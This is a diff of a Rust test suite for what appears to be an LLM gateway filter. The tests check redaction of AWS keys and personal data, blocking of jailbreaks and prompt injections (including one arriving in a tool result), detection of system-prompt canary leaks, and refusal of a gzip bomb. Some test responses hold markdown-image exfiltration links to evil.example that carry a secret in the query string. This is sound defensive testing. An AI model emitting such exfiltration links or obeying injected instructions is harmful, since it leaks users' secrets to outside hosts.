@@ -74,7 +74,10 @@ fn a_secret_in_a_prompt_is_redacted_before_the_upstream_sees_it() {
     );
     assert_eq!(host.counter("tollgate_inspect_rewritten_total"), Some(1));
     let logs = host.log_text();
-    assert!(logs.contains("secrets/aws_access_key@user:/messages/1/content:redact#"), "{logs}");
+    assert!(
+        logs.contains("secrets/aws_access_key@user:/messages/1/content:redact#"),
+        "{logs}"
+    );
     assert!(!logs.contains(AWS_KEY), "the key is never logged");
 }
 
@@ -92,7 +95,10 @@ fn a_jailbreak_is_blocked_with_the_apis_error_shape() {
     let body: Value = serde_json::from_slice(&reply.body).unwrap();
     assert_eq!(body["error"]["type"], "invalid_request_error");
     assert_eq!(body["error"]["code"], "content_policy_violation");
-    assert_eq!(body["error"]["message"], "request blocked by content policy");
+    assert_eq!(
+        body["error"]["message"],
+        "request blocked by content policy"
+    );
     assert!(!s.upstream().complete, "nothing reached the upstream");
     assert_eq!(s.downstream().status(), Some(400));
     // Anthropic's route answers in Anthropic's shape.
@@ -131,39 +137,89 @@ fn a_jailbreak_is_blocked_with_the_apis_error_shape() {
 fn shapes() -> Vec<(&'static str, Value, &'static str)> {
     let k = AWS_KEY;
     vec![
-        (CHAT, json!({"model": "m", "messages": [{"role": "user", "content": [
+        (
+            CHAT,
+            json!({"model": "m", "messages": [{"role": "user", "content": [
             {"type": "text", "text": format!("part {k}")},
             {"type": "image_url", "image_url": {"url": "https://example.com/a.png"}}]}]}),
-            "/messages/0/content/0/text"),
-        (CHAT, json!({"model": "m", "messages": [
+            "/messages/0/content/0/text",
+        ),
+        (
+            CHAT,
+            json!({"model": "m", "messages": [
             {"role": "user", "content": "hi"},
             {"role": "assistant", "content": null, "tool_calls": [{"id": "c1", "type": "function",
                 "function": {"name": "f", "arguments": format!("{{\"key\":\"{k}\"}}")}}]},
             {"role": "tool", "tool_call_id": "c1", "content": format!("result {k}")}]}),
-            "/messages/2/content"),
-        ("/v1/completions", json!({"model": "m", "prompt": format!("complete {k}")}), "/prompt"),
-        ("/v1/completions", json!({"model": "m", "prompt": ["a", format!("b {k}")]}), "/prompt/1"),
-        ("/v1/responses", json!({"model": "m", "input": format!("say {k}")}), "/input"),
-        ("/v1/responses", json!({"model": "m", "instructions": format!("sys {k}"), "input": "hi"}),
-            "/instructions"),
-        ("/v1/responses", json!({"model": "m", "input": [{"role": "user", "content": [
-            {"type": "input_text", "text": format!("x {k}")}]}]}), "/input/0/content/0/text"),
-        ("/v1/responses", json!({"model": "m", "input": [
+            "/messages/2/content",
+        ),
+        (
+            "/v1/completions",
+            json!({"model": "m", "prompt": format!("complete {k}")}),
+            "/prompt",
+        ),
+        (
+            "/v1/completions",
+            json!({"model": "m", "prompt": ["a", format!("b {k}")]}),
+            "/prompt/1",
+        ),
+        (
+            "/v1/responses",
+            json!({"model": "m", "input": format!("say {k}")}),
+            "/input",
+        ),
+        (
+            "/v1/responses",
+            json!({"model": "m", "instructions": format!("sys {k}"), "input": "hi"}),
+            "/instructions",
+        ),
+        (
+            "/v1/responses",
+            json!({"model": "m", "input": [{"role": "user", "content": [
+            {"type": "input_text", "text": format!("x {k}")}]}]}),
+            "/input/0/content/0/text",
+        ),
+        (
+            "/v1/responses",
+            json!({"model": "m", "input": [
             {"type": "function_call_output", "call_id": "c", "output": format!("out {k}")}]}),
-            "/input/0/output"),
-        ("/v1/embeddings", json!({"model": "m", "input": format!("embed {k}")}), "/input"),
-        ("/v1/embeddings", json!({"model": "m", "input": ["a", format!("{k}")]}), "/input/1"),
-        ("/v1/messages", json!({"model": "m", "max_tokens": 5, "system": format!("sys {k}"),
-            "messages": [{"role": "user", "content": "hi"}]}), "/system"),
-        ("/v1/messages", json!({"model": "m", "max_tokens": 5, "system": [{"type": "text", "text": format!("s {k}")}],
-            "messages": [{"role": "user", "content": "hi"}]}), "/system/0/text"),
-        ("/v1/messages", json!({"model": "m", "max_tokens": 5, "messages": [{"role": "user", "content": [
+            "/input/0/output",
+        ),
+        (
+            "/v1/embeddings",
+            json!({"model": "m", "input": format!("embed {k}")}),
+            "/input",
+        ),
+        (
+            "/v1/embeddings",
+            json!({"model": "m", "input": ["a", format!("{k}")]}),
+            "/input/1",
+        ),
+        (
+            "/v1/messages",
+            json!({"model": "m", "max_tokens": 5, "system": format!("sys {k}"),
+            "messages": [{"role": "user", "content": "hi"}]}),
+            "/system",
+        ),
+        (
+            "/v1/messages",
+            json!({"model": "m", "max_tokens": 5, "system": [{"type": "text", "text": format!("s {k}")}],
+            "messages": [{"role": "user", "content": "hi"}]}),
+            "/system/0/text",
+        ),
+        (
+            "/v1/messages",
+            json!({"model": "m", "max_tokens": 5, "messages": [{"role": "user", "content": [
             {"type": "text", "text": "look"},
             {"type": "tool_result", "tool_use_id": "t", "content": format!("doc {k}")}]}]}),
-            "/messages/0/content/1/content"),
-        ("/v1/messages", json!({"model": "m", "max_tokens": 5, "messages": [{"role": "user", "content": [
+            "/messages/0/content/1/content",
+        ),
+        (
+            "/v1/messages",
+            json!({"model": "m", "max_tokens": 5, "messages": [{"role": "user", "content": [
             {"type": "tool_result", "tool_use_id": "t", "content": [{"type": "text", "text": format!("doc {k}")}]}]}]}),
-            "/messages/0/content/0/content/0/text"),
+            "/messages/0/content/0/content/0/text",
+        ),
     ]
 }
 
@@ -179,10 +235,14 @@ fn every_api_shape_is_read_and_redacted_where_the_model_reads_it() {
         s.send_request(Request::post(path).json(&body));
         assert!(s.upstream().complete, "{path} {loc}: {:?}", s.local_reply());
         let sent: Value = s.upstream().json().unwrap();
-        let text = sent.pointer(&pointer(loc)).and_then(Value::as_str).unwrap_or_else(|| {
-            panic!("{path}: no string at {loc} in {sent}")
-        });
-        assert!(text.contains(&redacted("aws_access_key")), "{path} {loc}: {text}");
+        let text = sent
+            .pointer(&pointer(loc))
+            .and_then(Value::as_str)
+            .unwrap_or_else(|| panic!("{path}: no string at {loc} in {sent}"));
+        assert!(
+            text.contains(&redacted("aws_access_key")),
+            "{path} {loc}: {text}"
+        );
         assert!(!sent.to_string().contains(AWS_KEY), "{path}: {sent}");
     }
     // Tool-call arguments are redacted too (the second shape).
@@ -212,8 +272,14 @@ fn each_action_and_shadow_mode() {
     assert!(sent.contains(AWS_KEY), "audited, not redacted: {sent}");
     assert!(sent.contains("[REDACTED:email]"), "{sent}");
     drop(s);
-    assert_eq!(h.counter("tollgate_inspect_request_secrets_audit_total"), Some(1));
-    assert_eq!(h.counter("tollgate_inspect_request_pii_redact_total"), Some(1));
+    assert_eq!(
+        h.counter("tollgate_inspect_request_secrets_audit_total"),
+        Some(1)
+    );
+    assert_eq!(
+        h.counter("tollgate_inspect_request_pii_redact_total"),
+        Some(1)
+    );
     // secrets: off.
     let mut h = host_with(json!({"secrets": {"request": "off"}}));
     let mut s = h.stream();
@@ -224,12 +290,23 @@ fn each_action_and_shadow_mode() {
     for t in [text.as_str(), INJECTION] {
         let mut s = h.stream();
         let body = chat(t).to_string();
-        s.send_request(Request::post(CHAT).header("content-type", "application/json").body(body.clone()));
+        s.send_request(
+            Request::post(CHAT)
+                .header("content-type", "application/json")
+                .body(body.clone()),
+        );
         assert!(s.upstream().complete);
         assert_eq!(s.upstream().body_str(), body);
     }
-    assert_eq!(h.counter("tollgate_inspect_request_secrets_redact_total"), Some(1));
-    assert!(h.counter("tollgate_inspect_request_injection_block_total").unwrap() >= 1);
+    assert_eq!(
+        h.counter("tollgate_inspect_request_secrets_redact_total"),
+        Some(1)
+    );
+    assert!(
+        h.counter("tollgate_inspect_request_injection_block_total")
+            .unwrap()
+            >= 1
+    );
     assert_eq!(h.counter("tollgate_inspect_blocked_total"), Some(0));
     assert!(h.log_text().contains("outcome=shadow"), "{}", h.log_text());
 }
@@ -243,12 +320,18 @@ fn overrides_scope_actions_by_path_and_role() {
     let mut h = host_with(config);
     let mut s = h.stream();
     s.send_request(Request::post("/v1/embeddings").json(&json!({"model": "m", "input": AWS_KEY})));
-    assert!(s.upstream().body_str().contains(AWS_KEY), "secrets off on embeddings");
+    assert!(
+        s.upstream().body_str().contains(AWS_KEY),
+        "secrets off on embeddings"
+    );
     let mut s = h.stream();
     s.send_request(Request::post(CHAT).json(&json!({"model": "m", "messages": [
         {"role": "user", "content": "summarise the page"},
         {"role": "tool", "tool_call_id": "c", "content": INJECTION}]})));
-    assert!(s.upstream().complete, "injection in a tool result is only audited here");
+    assert!(
+        s.upstream().complete,
+        "injection in a tool result is only audited here"
+    );
     let mut s = h.stream();
     s.send_request(Request::post(CHAT).json(&chat(INJECTION)));
     assert!(s.local_reply().is_some(), "still blocked from the user");
@@ -294,21 +377,37 @@ fn compressed_requests_are_decompressed_or_refused() {
     assert!(sent.to_string().contains("[REDACTED:aws_access_key]"));
     // A corrupt body is a 400, an unknown coding a 415.
     let mut s = h.stream();
-    s.send_request(Request::post(CHAT).header("content-encoding", "gzip").body(b"not gzip".to_vec()));
+    s.send_request(
+        Request::post(CHAT)
+            .header("content-encoding", "gzip")
+            .body(b"not gzip".to_vec()),
+    );
     assert_eq!(s.local_reply().map(|r| r.status), Some(400));
     let mut s = h.stream();
-    s.send_request(Request::post(CHAT).header("content-encoding", "br").body(b"x".to_vec()));
+    s.send_request(
+        Request::post(CHAT)
+            .header("content-encoding", "br")
+            .body(b"x".to_vec()),
+    );
     assert_eq!(s.local_reply().map(|r| r.status), Some(415));
     // A compression bomb: 64 MiB of zeros in ~64 KB: 413, not an OOM.
     let bomb = gzip(&vec![b' '; 64 << 20]);
     assert!(bomb.len() < 256 << 10);
     let mut s = h.stream();
-    s.send_request(Request::post(CHAT).header("content-encoding", "gzip").body(bomb));
+    s.send_request(
+        Request::post(CHAT)
+            .header("content-encoding", "gzip")
+            .body(bomb),
+    );
     assert_eq!(s.local_reply().map(|r| r.status), Some(413));
     // Refused outright when configured.
     let mut h = host_with(json!({"compressed_requests": "reject"}));
     let mut s = h.stream();
-    s.send_request(Request::post(CHAT).header("content-encoding", "gzip").body(gzip(body.as_bytes())));
+    s.send_request(
+        Request::post(CHAT)
+            .header("content-encoding", "gzip")
+            .body(gzip(body.as_bytes())),
+    );
     assert_eq!(s.local_reply().map(|r| r.status), Some(415));
 }
 
@@ -333,17 +432,30 @@ fn oversize_bodies_get_413() {
 fn unreadable_bodies_are_refused_with_a_clear_error() {
     let mut h = host();
     for (body, why) in [
-        (b"{\"model\": \"m\", \"messages\": [".to_vec(), "truncated JSON"),
+        (
+            b"{\"model\": \"m\", \"messages\": [".to_vec(),
+            "truncated JSON",
+        ),
         (b"\xff\xfe not utf-8".to_vec(), "invalid UTF-8"),
-        (br#"{"model": "m", "messages": "hello"}"#.to_vec(), "wrong shape"),
+        (
+            br#"{"model": "m", "messages": "hello"}"#.to_vec(),
+            "wrong shape",
+        ),
     ] {
         let mut s = h.stream();
-        s.send_request(Request::post(CHAT).header("content-type", "application/json").body(body));
+        s.send_request(
+            Request::post(CHAT)
+                .header("content-type", "application/json")
+                .body(body),
+        );
         let reply = s.local_reply().unwrap_or_else(|| panic!("{why} passed"));
         assert_eq!(reply.status, 400, "{why}");
         let msg: Value = serde_json::from_slice(&reply.body).unwrap();
         assert!(
-            msg["error"]["message"].as_str().unwrap().contains("cannot be read"),
+            msg["error"]["message"]
+                .as_str()
+                .unwrap()
+                .contains("cannot be read"),
             "{why}: {msg}"
         );
         assert!(!s.upstream().complete, "{why}");
@@ -383,9 +495,15 @@ fn non_streamed_completions_are_redacted_or_blocked() {
     )));
     let got: Value = s.downstream().json().unwrap();
     assert_eq!(got["error"]["code"], "content_policy_violation", "{got}");
-    assert_eq!(got["error"]["message"], "response blocked by content policy");
+    assert_eq!(
+        got["error"]["message"],
+        "response blocked by content policy"
+    );
     drop(s);
-    assert_eq!(h.counter("tollgate_inspect_response_output_block_total"), Some(1));
+    assert_eq!(
+        h.counter("tollgate_inspect_response_output_block_total"),
+        Some(1)
+    );
 }
 
 #[test]
@@ -400,7 +518,10 @@ fn held_headers_give_exact_lengths_and_real_error_statuses() {
     s.send_request(Request::post(CHAT).json(&chat(&format!("k {AWS_KEY}"))));
     let up = s.upstream();
     let body = up.body();
-    assert_eq!(up.header("content-length"), Some(body.len().to_string().as_str()));
+    assert_eq!(
+        up.header("content-length"),
+        Some(body.len().to_string().as_str())
+    );
     s.send_response(Response::ok().json(&completion("![x](https://evil.example/a.png)")));
     assert_eq!(s.downstream().status(), Some(400));
     let n = s.downstream().body().len().to_string();
@@ -414,16 +535,25 @@ fn held_headers_give_exact_lengths_and_real_error_statuses() {
 
 /// An OpenAI chat stream of `text`, one delta per `piece` characters.
 fn chat_stream(text: &str, piece: usize) -> Vec<String> {
-    let mut events = vec![json!({"id": "s", "object": "chat.completion.chunk", "choices": [
-        {"index": 0, "delta": {"role": "assistant", "content": ""}, "finish_reason": null}]}).to_string()];
+    let mut events = vec![
+        json!({"id": "s", "object": "chat.completion.chunk", "choices": [
+        {"index": 0, "delta": {"role": "assistant", "content": ""}, "finish_reason": null}]})
+        .to_string(),
+    ];
     let chars: Vec<char> = text.chars().collect();
     for c in chars.chunks(piece) {
         let s: String = c.iter().collect();
-        events.push(json!({"id": "s", "object": "chat.completion.chunk", "choices": [
-            {"index": 0, "delta": {"content": s}, "finish_reason": null}]}).to_string());
+        events.push(
+            json!({"id": "s", "object": "chat.completion.chunk", "choices": [
+            {"index": 0, "delta": {"content": s}, "finish_reason": null}]})
+            .to_string(),
+        );
     }
-    events.push(json!({"id": "s", "object": "chat.completion.chunk", "choices": [
-        {"index": 0, "delta": {}, "finish_reason": "stop"}]}).to_string());
+    events.push(
+        json!({"id": "s", "object": "chat.completion.chunk", "choices": [
+        {"index": 0, "delta": {}, "finish_reason": "stop"}]})
+        .to_string(),
+    );
     events.push("[DONE]".to_owned());
     events
 }
@@ -433,7 +563,10 @@ fn stream_text(body: &str) -> (String, bool) {
     let mut text = String::new();
     let mut done = false;
     for block in body.split("\n\n") {
-        let Some(data) = block.lines().find_map(|l| l.strip_prefix("data: ").or(l.strip_prefix("data:"))) else {
+        let Some(data) = block
+            .lines()
+            .find_map(|l| l.strip_prefix("data: ").or(l.strip_prefix("data:")))
+        else {
             continue;
         };
         if data == "[DONE]" {
@@ -451,7 +584,10 @@ fn stream_text(body: &str) -> (String, bool) {
 #[test]
 fn a_secret_split_across_stream_chunks_is_redacted_at_every_split() {
     let text = format!("Sure, the key is {AWS_KEY} and that is all.");
-    let want = format!("Sure, the key is {} and that is all.", redacted("aws_access_key"));
+    let want = format!(
+        "Sure, the key is {} and that is all.",
+        redacted("aws_access_key")
+    );
     let events = chat_stream(&text, 3);
     let raw: String = events.iter().map(|e| format!("data: {e}\n\n")).collect();
     let mut h = host();
@@ -469,7 +605,11 @@ fn a_secret_split_across_stream_chunks_is_redacted_at_every_split() {
                 .chunks(chunks.clone()),
         );
         let body = s.downstream().body_str();
-        assert!(!body.contains(AWS_KEY), "split {:?}", chunks.iter().map(Vec::len).collect::<Vec<_>>());
+        assert!(
+            !body.contains(AWS_KEY),
+            "split {:?}",
+            chunks.iter().map(Vec::len).collect::<Vec<_>>()
+        );
         let (got, done) = stream_text(&body);
         assert_eq!(got, want);
         assert!(done);
@@ -497,7 +637,10 @@ fn a_stream_starts_flowing_before_it_ends() {
     }
     let partial = h.outcome(id).downstream.body();
     let (text, _) = stream_text(&String::from_utf8_lossy(&partial));
-    assert!(text.starts_with("Hello"), "tokens flow before the end: {text:?}");
+    assert!(
+        text.starts_with("Hello"),
+        "tokens flow before the end: {text:?}"
+    );
 }
 
 #[test]
@@ -505,7 +648,10 @@ fn a_blocked_stream_ends_with_an_error_event() {
     let mut h = host();
     let mut s = h.stream();
     s.send_request(Request::post(CHAT).json(&chat("hi")));
-    let events = chat_stream("Look: ![a](https://evil.example/x.png?d=secret) more text", 5);
+    let events = chat_stream(
+        "Look: ![a](https://evil.example/x.png?d=secret) more text",
+        5,
+    );
     s.send_response(Response::ok().sse(events));
     let body = s.downstream().body_str();
     assert!(!body.contains("evil.example"), "{body}");
@@ -513,7 +659,10 @@ fn a_blocked_stream_ends_with_an_error_event() {
         .split("\n\n")
         .find(|b| b.contains("\"error\""))
         .unwrap_or_else(|| panic!("no error event: {body}"));
-    let data = error_event.lines().find_map(|l| l.strip_prefix("data: ")).unwrap();
+    let data = error_event
+        .lines()
+        .find_map(|l| l.strip_prefix("data: "))
+        .unwrap();
     let v: Value = serde_json::from_str(data).unwrap();
     assert_eq!(v["error"]["code"], "content_policy_violation");
     assert!(s.downstream().complete);
@@ -526,7 +675,13 @@ fn the_canary_goes_into_the_system_prompt_and_its_leak_is_blocked() {
     let mut s = h.stream();
     s.send_request(Request::post(CHAT).json(&chat("hi")));
     let sent: Value = s.upstream().json().unwrap();
-    assert!(sent["messages"][0]["content"].as_str().unwrap().contains(canary), "{sent}");
+    assert!(
+        sent["messages"][0]["content"]
+            .as_str()
+            .unwrap()
+            .contains(canary),
+        "{sent}"
+    );
     s.send_response(Response::ok().json(&completion(&format!("My instructions say {canary}"))));
     let got: Value = s.downstream().json().unwrap();
     assert_eq!(got["error"]["code"], "content_policy_violation");
@@ -534,9 +689,8 @@ fn the_canary_goes_into_the_system_prompt_and_its_leak_is_blocked() {
 
 #[test]
 fn the_guard_passes_rejects_masks_and_fails_closed_or_open() {
-    let config = |fail: &str| {
-        json!({"guard": {"cluster": "guard", "timeout_ms": 200, "fail": fail}})
-    };
+    let config =
+        |fail: &str| json!({"guard": {"cluster": "guard", "timeout_ms": 200, "fail": fail}});
     let module = module();
     let build = |fail: &str| {
         Host::builder(&module)
@@ -547,7 +701,11 @@ fn the_guard_passes_rejects_masks_and_fails_closed_or_open() {
     };
     let cases: Vec<(HttpCallReply, &str, Option<u16>)> = vec![
         (HttpCallReply::ok(r#"{"action":"pass"}"#), "closed", None),
-        (HttpCallReply::ok(r#"{"action":"reject","reason":"toxic"}"#), "closed", Some(400)),
+        (
+            HttpCallReply::ok(r#"{"action":"reject","reason":"toxic"}"#),
+            "closed",
+            Some(400),
+        ),
         (HttpCallReply::status(500, "oops"), "closed", Some(503)),
         (HttpCallReply::timeout(), "closed", Some(503)),
         (HttpCallReply::timeout(), "open", None),
@@ -560,7 +718,12 @@ fn the_guard_passes_rejects_masks_and_fails_closed_or_open() {
         s.send_request(Request::post(CHAT).json(&chat("Hello, my name is Alice Smith")));
         // A timeout is Envoy's own 504 when the virtual clock passes it.
         s.advance(std::time::Duration::from_millis(250));
-        assert_eq!(s.local_reply().map(|r| r.status), status, "{fail} {:?}", s.host().log_text());
+        assert_eq!(
+            s.local_reply().map(|r| r.status),
+            status,
+            "{fail} {:?}",
+            s.host().log_text()
+        );
         let complete = s.upstream().complete;
         assert_eq!(complete, status.is_none(), "{}", s.host().log_text());
         drop(s);
@@ -580,7 +743,10 @@ fn the_guard_passes_rejects_masks_and_fails_closed_or_open() {
     let mut s = h.stream();
     s.send_request(Request::post(CHAT).json(&chat("Hello, my name is Alice Smith")));
     let sent: Value = s.upstream().json().unwrap();
-    assert_eq!(sent["messages"][1]["content"], "Hello, my name is [REDACTED:person]");
+    assert_eq!(
+        sent["messages"][1]["content"],
+        "Hello, my name is [REDACTED:person]"
+    );
 }
 
 #[test]
